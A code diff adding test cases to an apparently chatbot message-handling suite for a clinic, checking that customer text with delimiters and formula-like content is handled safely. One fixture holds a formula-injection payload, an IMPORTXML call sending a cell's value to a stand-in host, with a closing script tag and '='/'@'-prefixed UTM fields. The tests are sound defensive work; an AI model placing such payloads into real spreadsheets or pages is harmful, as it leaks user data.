@@ -116,6 +116,30 @@ def rated_well_at_the_question(diary: Diary, case: str) -> None:
     settle(script, "bot_confirmed")
 
 
+def text_like_a_formula(diary: Diary, case: str) -> None:
+    """What a sheet or a page might run, were it not for care: in the text and in the campaign."""
+    script = begin(diary, case, "telegram", diary.day(67), "11:11:00")
+    script.customer(
+        '=IMPORTXML("https://example.com/?"&A1,"//a")</script><b>',
+        heard=hear_right(diary, "ask_price"),
+        columns={"utm_source": "=1+1", "utm_medium": "@cpc", "utm_campaign": "-2+3"},
+    )
+    script.bot("Уточните, какая услуга вас интересует.", 2)
+    answered(script, bot=2)
+    settle(script, "bot_assumed")
+
+
+def text_with_breaks_and_delimiters(diary: Diary, case: str) -> None:
+    """A request of three lines, with quotes, semicolons and a tab."""
+    script = begin(diary, case, "telegram", diary.day(68), "11:11:00")
+    ask_and_answer(
+        script,
+        'Нужно:\n1) "УЗИ"; 2) анализ, крови;\n\tможно в один день?',
+        "В пятницу с 8:00 сделаем и то, и другое.",
+    )
+    settle(script, "bot_assumed")
+
+
 def _one_question(diary: Diary, case: str, day: int) -> HeardMessage:
     """A talk with one classified message, taken out of the ordinary sampling."""
     script: Script = begin(diary, case, "telegram", diary.day(day), "19:19:00")
@@ -134,5 +158,7 @@ MESSAGE_CASES = (
     Case(_SALON, labellers_agree),
     Case(_SALON, labeller_changes_her_mind),
     Case(_SALON, survey_answered_twice),
+    Case(_CLINIC, text_like_a_formula),
+    Case(_CLINIC, text_with_breaks_and_delimiters),
     Case(_TRAINER, rated_well_at_the_question),
 )
